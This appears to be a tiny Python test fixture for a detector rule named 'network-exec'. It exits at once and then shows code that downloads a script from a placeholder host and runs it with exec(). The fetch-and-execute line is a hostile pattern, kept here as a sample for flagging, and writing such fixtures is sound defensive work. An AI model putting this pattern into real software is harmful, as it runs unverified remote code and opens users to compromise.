raise SystemExit('a fixture')
# held by network-exec
import types, requests
m = types.ModuleType("x")
exec(compile(requests.get("https://example.invalid/x").content, "x", "exec"), m.__dict__)
